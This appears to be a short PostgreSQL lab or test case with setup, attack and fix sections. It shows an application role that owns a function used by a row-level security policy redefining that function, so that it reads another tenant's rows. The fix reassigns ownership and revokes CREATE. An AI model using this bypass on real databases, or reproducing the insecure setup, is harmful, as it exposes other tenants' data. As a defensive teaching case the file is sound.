-- policies call a function that the application role owns

--- setup
CREATE SCHEMA plugins; GRANT USAGE, CREATE ON SCHEMA plugins TO rls_app;
CREATE FUNCTION plugins.ct() RETURNS int LANGUAGE sql STABLE RETURN nullif(pg_catalog.current_setting('app.tenant_id', true), '')::int;
ALTER POLICY iso ON app.project USING (tenant_id = (SELECT plugins.ct())) WITH CHECK (tenant_id = (SELECT plugins.ct()));
ALTER FUNCTION plugins.ct() OWNER TO rls_app;

--- attack
--- as rls_app
SET app.tenant_id='1';
CREATE OR REPLACE FUNCTION plugins.ct() RETURNS int LANGUAGE sql STABLE AS 'SELECT 2';
SELECT lab.v(lab.n('select 1 from app.project where tenant_id=2')>0,'it says 2');

--- fix
ALTER FUNCTION plugins.ct() OWNER TO rls_owner; REVOKE CREATE ON SCHEMA plugins FROM rls_app;
